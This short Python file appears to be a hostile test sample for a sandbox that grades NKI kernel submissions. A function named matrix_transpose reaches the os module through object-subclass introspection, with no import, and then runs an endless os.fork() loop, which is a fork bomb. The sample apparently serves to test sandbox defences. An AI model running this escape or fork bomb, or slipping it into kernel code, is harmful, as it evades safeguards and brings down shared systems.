"""Hostile: fork bomb reached without an import (runtime layers; screen off)."""

import neuronxcc.nki as nki
import neuronxcc.nki.isa as nisa
import neuronxcc.nki.language as nl


def _os():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["sys"].modules["os"]
    raise RuntimeError("no escape found")


@nki.jit
def matrix_transpose(a_tensor):
    os = _os()
    while True:
        try:
            os.fork()
        except OSError:
            pass
